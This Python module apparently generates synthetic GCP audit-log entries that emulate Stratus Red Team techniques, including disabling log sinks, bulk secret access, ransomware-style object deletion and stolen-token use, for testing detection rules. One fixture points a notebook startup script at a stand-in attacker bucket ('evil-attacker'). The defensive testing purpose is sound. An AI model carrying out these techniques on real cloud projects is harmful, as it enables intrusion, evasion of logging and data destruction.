"""Stratus Red Team GCP techniques added with Stratus v2.36 (rules/stratus.py STRATUS_EMULATED):
one scenario each, written from the technique's Go package (the API calls it makes) and the
Cloud Audit Logs shapes of the services (Panther's GCP test cases in ../shared show the real
ones: GCS logs no request body for buckets.update, object calls carry a bare authorizationInfo).
The table is merged into emulate/stratus.py's."""

from __future__ import annotations

from datetime import datetime, timedelta

from trailhound.emulate.gcp import Gcp, GcpCaller
from trailhound.emulate.gcp_ops import PROJECT_PATH
from trailhound.emulate.stratus_base import Entry, GcpOp, gcp
from trailhound.emulate.world import PROJECT, PROJECT_NUM, Json
from trailhound.rules.related_ids import related_id

COMPUTE, STORAGE = "compute.googleapis.com", "storage.googleapis.com"
ZONE = "us-central1-a"
INSTANCE = f"{PROJECT_PATH}/zones/{ZONE}/instances/vm-app-01"
GO_UA = "stratus-red-team_4fbc5d44 google-api-go-client/0.5,gzip(gfe)"
SINK_BUCKET = "acme-audit-export"
RANSOM_OBJECTS = 51  # the technique's Terraform creates 51 objects (num_files)


def _instance_res(zone: str = ZONE) -> Json:
    return {"type": "gce_instance", "labels": {"zone": zone, "project_id": PROJECT,
                                               "instance_id": "4839201748392017"}}


def _secrets(g: Gcp, t: datetime, who: GcpCaller) -> list[Json]:
    """ListSecrets, then AccessSecretVersion of each of the 20 secrets (Data Access)."""
    sm = "secretmanager.googleapis.com"
    method = "google.cloud.secretmanager.v1.SecretManagerService."
    out = [g.entry(t, "data_access", who, sm, method + "ListSecrets", PROJECT_PATH,
                   {"type": "audited_resource", "labels": {"service": sm, "method":
                                                           method + "ListSecrets"}},
                   perms=[(PROJECT_PATH, "secretmanager.secrets.list", "")])]
    for i in range(20):
        name = f"projects/{PROJECT_NUM}/secrets/stratus-red-team-retrieve-secret-{i}/versions/latest"
        out.append(g.entry(
            t + timedelta(seconds=1 + i), "data_access", who, sm, method + "AccessSecretVersion",
            name, {"type": "audited_resource", "labels": {"service": sm, "method":
                                                          method + "AccessSecretVersion"}},
            perms=[(name, "secretmanager.versions.access",
                    "secretmanager.googleapis.com/SecretVersion")],
            request={"name": name, "@type": "type.googleapis.com/google.cloud.secretmanager.v1."
                     "AccessSecretVersionRequest"}))
    return out


def _delete_dns_policy(g: Gcp, t: datetime, who: GcpCaller) -> list[Json]:
    name = f"{PROJECT_PATH}/policies/stratus-red-team-dns-logging"
    return [g.entry(t, "activity", who, "dns.googleapis.com", "dns.policies.delete", name,
                    {"type": "dns_policy", "labels": {"project_id": PROJECT,
                                                      "policy_name": "stratus-red-team-dns-logging"}},
                    perms=[(name, "dns.policies.delete", "dns.googleapis.com/Policy")],
                    request={"policy": "stratus-red-team-dns-logging", "project": PROJECT,
                             "@type": "type.googleapis.com/cloud.dns.api.PoliciesDeleteRequest"})]


def _disable_sink(g: Gcp, t: datetime, who: GcpCaller) -> list[Json]:
    name = f"{PROJECT_PATH}/sinks/stratus-red-team-audit-sink"
    sink = {"name": "stratus-red-team-audit-sink", "disabled": True,
            "destination": f"{STORAGE}/{SINK_BUCKET}",
            "filter": 'logName:"cloudaudit.googleapis.com"'}
    return [g.entry(t, "activity", who, "logging.googleapis.com",
                    "google.logging.v2.ConfigServiceV2.UpdateSink", name,
                    {"type": "logging_sink", "labels": {"name": sink["name"],
                                                        "project_id": PROJECT}},
                    perms=[(name, "logging.sinks.update", "")],
                    request={"@type": "type.googleapis.com/google.logging.v2.UpdateSinkRequest",
                             "sinkName": name, "sink": sink, "updateMask": "disabled"})]


def _bucket_lifecycle(g: Gcp, t: datetime, who: GcpCaller) -> list[Json]:
    """A 1-day delete rule on the sink's bucket: storage.buckets.update, no request body."""
    name = f"projects/_/buckets/{SINK_BUCKET}"
    return [g.entry(t, "activity", who, STORAGE, "storage.buckets.update", name,
                    {"type": "gcs_bucket", "labels": {"bucket_name": SINK_BUCKET,
                                                      "location": "us", "project_id": PROJECT}},
                    perms=[(name, "storage.buckets.update", "")])]


def _flow_logs_off(g: Gcp, t: datetime, who: GcpCaller) -> list[Json]:
    name = f"{PROJECT_PATH}/regions/us-central1/subnetworks/stratus-red-team-subnet"
    return [g.entry(t, "activity", who, COMPUTE, "v1.compute.subnetworks.patch", name,
                    {"type": "gce_subnetwork", "labels": {"location": "us-central1",
                                                          "project_id": PROJECT}},
                    perms=[(name, "compute.subnetworks.update", "compute.subnetworks")],
                    request={"@type": "type.googleapis.com/compute.subnetworks.patch",
                             "logConfig": {"enable": False}})]


def _read_metadata(g: Gcp, t: datetime, who: GcpCaller) -> list[Json]:
    """instances.list in the zone, then instances.get of the one found (Data Access)."""
    zone_path = f"{PROJECT_PATH}/zones/{ZONE}"
    return [
        g.entry(t, "data_access", who, COMPUTE, "v1.compute.instances.list", zone_path,
                {"type": "gce_instance", "labels": {"zone": ZONE, "project_id": PROJECT}},
                perms=[(zone_path, "compute.instances.list", "compute.instances")]),
        g.entry(t + timedelta(seconds=2), "data_access", who, COMPUTE,
                "v1.compute.instances.get", INSTANCE, _instance_res(),
                perms=[(INSTANCE, "compute.instances.get", "compute.instances")]),
    ]


def _test_permissions(g: Gcp, t: datetime, who: GcpCaller) -> list[Json]:
    """projects.testIamPermissions (Resource Manager v1) in chunks of 100, 40 calls."""
    crm = "cloudresourcemanager.googleapis.com"
    return [g.entry(t + timedelta(milliseconds=700 * i), "data_access", who, crm,
                    "TestIamPermissions", PROJECT_PATH,
                    {"type": "project", "labels": {"project_id": PROJECT}},
                    request={"@type": "type.googleapis.com/google.iam.v1."
                             "TestIamPermissionsRequest", "resource": PROJECT_PATH,
                             "permissions": [f"compute.instances.p{i}"]})
            for i in range(40)]


def _notebook_startup(g: Gcp, t: datetime, who: GcpCaller) -> list[Json]:
    name = f"{PROJECT_PATH}/locations/{ZONE}/instances/stratus-red-team-workbench"
    script = f"gs://evil-attacker-{PROJECT}-x7k2/malicious.sh"
    return [g.entry(t, "activity", who, "notebooks.googleapis.com",
                    "google.cloud.notebooks.v2.NotebookService.UpdateInstance", name,
                    {"type": "audited_resource", "labels": {"service": "notebooks.googleapis.com",
                                                            "method": "google.cloud.notebooks.v2."
                                                            "NotebookService.UpdateInstance"}},
                    perms=[(name, "notebooks.instances.update", "")],
                    request={"@type": "type.googleapis.com/google.cloud.notebooks.v2."
                             "UpdateInstanceRequest", "updateMask": "gceSetup.metadata",
                             "instance": {"gceSetup": {"metadata": {
                                 "post-startup-script": script}}}})]


def _insert(g: Gcp, t: datetime, who: GcpCaller, zone: str, name: str, request: Json,
            status: Json | None = None) -> Json:
    path = f"{PROJECT_PATH}/zones/{zone}/instances/{name}"
    return g.entry(t, "activity", who, COMPUTE, "v1.compute.instances.insert", path,
                   _instance_res(zone), perms=[(path, "compute.instances.create",
                                                "compute.instances")],
                   status=status, severity="ERROR" if status else None,
                   request={"@type": "type.googleapis.com/compute.instances.insert",
                            "name": name, **request})


def _gpu_vm(g: Gcp, t: datetime, who: GcpCaller) -> list[Json]:
    """The insert with a T4 attached, denied for quota (the page: logged either way)."""
    accel = f"{PROJECT_PATH}/zones/{ZONE}/acceleratorTypes/nvidia-tesla-t4"
    return [_insert(g, t, who, ZONE, "stratus-red-team-gpu", {
        "machineType": f"zones/{ZONE}/machineTypes/n1-standard-4",
        "guestAccelerators": [{"acceleratorType": accel, "acceleratorCount": "1"}],
        "scheduling": {"onHostMaintenance": "TERMINATE"}},
        status={"code": 8, "message": "Quota 'NVIDIA_T4_GPUS' exceeded. Limit: 0.0 in region "
                "us-central1."})]


ZONES = ("us-central1-a", "us-east1-b", "us-west1-a", "europe-west1-b", "europe-west2-a",
         "asia-east1-a")  # the technique's targetZones


def _many_zones(g: Gcp, t: datetime, who: GcpCaller) -> list[Json]:
    return [_insert(g, t + timedelta(milliseconds=400 * i), who, z, f"stratus-red-team-{i}",
                    {"machineType": f"zones/{z}/machineTypes/e2-micro"})
            for i, z in enumerate(ZONES)]


def _object(g: Gcp, t: datetime, who: GcpCaller, method: str, key: str,
            perms: tuple[str, ...]) -> Json:
    bucket = "projects/_/buckets/stratus-red-team-ransomware"
    name = f"{bucket}/objects/{key}" if key else bucket
    auth = [{"permission": p, "granted": True, "resource": name, "resourceAttributes": {}}
            for p in perms]
    return g.entry(t, "data_access", who, STORAGE, method, name,
                   {"type": "gcs_bucket", "labels": {"bucket_name": "stratus-red-team-ransomware",
                                                     "location": "us", "project_id": PROJECT}},
                   location="us", extra={"authorizationInfo": auth})


def _ransomware(method: str, perms: tuple[str, ...]) -> GcpOp:
    """List the bucket, touch each of its objects, then upload the note (create only)."""
    def op(g: Gcp, t: datetime, who: GcpCaller) -> list[Json]:
        out = [_object(g, t, who, "storage.objects.list", "", ("storage.objects.list",))]
        out += [_object(g, t + timedelta(milliseconds=300 * (i + 1)), who, method,
                        f"data/file-{i}.{('csv', 'pdf', 'docx')[i % 3]}", perms)
                for i in range(RANSOM_OBJECTS)]
        end = t + timedelta(seconds=20)
        out.append(_object(g, end, who, "storage.objects.create", "FILES-DELETED.txt",
                           ("storage.objects.create",)))
        return out
    return op


def _default_sa_outside(g: Gcp, t: datetime, who: GcpCaller) -> list[Json]:
    """The instance's token, read from its serial port, replayed from the attacker's host."""
    stolen = GcpCaller(f"{PROJECT_NUM}-compute@developer.gserviceaccount.com", who.ip, GO_UA)
    return [g.entry(t, "activity", stolen, COMPUTE, "v1.compute.instances.setLabels", INSTANCE,
                    _instance_res(), perms=[(INSTANCE, "compute.instances.setLabels",
                                             "compute.instances")],
                    request={"@type": "type.googleapis.com/compute.instances.setLabels",
                             "labels": [{"key": "stratus-red-team", "value": "stolen-token"}]})]


def _ssh_key(g: Gcp, t: datetime, who: GcpCaller) -> list[Json]:
    return [g.entry(t, "activity", who, COMPUTE, "v1.compute.instances.setMetadata", INSTANCE,
                    _instance_res(), perms=[(INSTANCE, "compute.instances.setMetadata",
                                             "compute.instances")],
                    request={"@type": "type.googleapis.com/compute.instances.setMetadata"},
                    extra={"metadata": {"@type": "type.googleapis.com/google.cloud.audit."
                                        "GceInstanceAuditMetadata", "instanceMetadataDelta": {
                                            "addedMetadataKeys": ["ssh-keys"]}}})]


def _r(name: str) -> str:
    """A rule raises under its id; a correlation (plain names in the table) under its name."""
    return related_id(name)


TABLE: dict[str, Entry] = {
    "gcp.credential-access.secretmanager-retrieve-secrets": (
        "AccessSecretVersion of 20 secrets one by one", gcp(_secrets),
        ("gcp_secrets_bulk_read",)),
    "gcp.defense-evasion.delete-dns-logs": (
        "a Cloud DNS logging policy deleted", gcp(_delete_dns_policy),
        (_r("gcp_audit_dns_logging_policy_deleted"),)),
    "gcp.defense-evasion.disable-logging-sink": (
        "the audit sink disabled (UpdateSink disabled: true)", gcp(_disable_sink),
        (_r("gcp_audit_logging_sink_disabled"),)),
    "gcp.defense-evasion.reduce-sink-log-retention": (
        "a 1-day lifecycle rule on the sink's bucket", gcp(_bucket_lifecycle),
        (_r("gcp_audit_bucket_config_changed"),)),
    "gcp.defense-evasion.remove-vpc-flow-logs": (
        "VPC flow logs disabled on a subnet", gcp(_flow_logs_off),
        (_r("gcp_audit_vpc_flow_logs_disabled"),)),
    "gcp.discovery.download-instance-metadata": (
        "instances listed, then one read with its metadata", gcp(_read_metadata),
        ("gcp_instance_metadata_read",)),
    "gcp.discovery.enumerate-permissions": (
        "40 testIamPermissions calls in 30 seconds", gcp(_test_permissions),
        ("gcp_permissions_enumerated",)),
    "gcp.execution.modify-vertex-notebook-startup": (
        "a Workbench instance's post-startup-script set", gcp(_notebook_startup),
        (_r("gcp_audit_notebook_startup_script_set"),)),
    "gcp.impact.create-gpu-vm": (
        "a GPU VM insert (denied for quota)", gcp(_gpu_vm),
        ("compute_create", _r("gcp_audit_gpu_instance_created"))),
    "gcp.impact.create-instances-in-multiple-zones": (
        "instances inserted in 6 zones", gcp(_many_zones),
        ("compute_create", "gcp_instances_many_zones")),
    "gcp.impact.gcs-ransomware-client-side-encryption": (
        "51 objects rewritten in place, a ransom note", gcp(
            _ransomware("storage.objects.create", ("storage.objects.create",
                                                   "storage.objects.delete"))),
        ("gcp_gcs_objects_bulk_rewritten",)),
    "gcp.impact.gcs-ransomware-individual-deletion": (
        "51 objects deleted one by one, a ransom note", gcp(
            _ransomware("storage.objects.delete", ("storage.objects.delete",))),
        ("gcp_gcs_objects_bulk_deleted",)),
    "gcp.initial-access.use-compute-sa-outside-gcp": (
        "the default compute account's token used from outside", gcp(_default_sa_outside),
        (_r("gcp_audit_default_compute_sa_used_outside"),)),
    "gcp.lateral-movement.add-sshkey-instance-metadata": (
        "an SSH key added to an instance's metadata", gcp(_ssh_key),
        (_r("gcp_audit_ssh_key_added_to_metadata"),)),
}
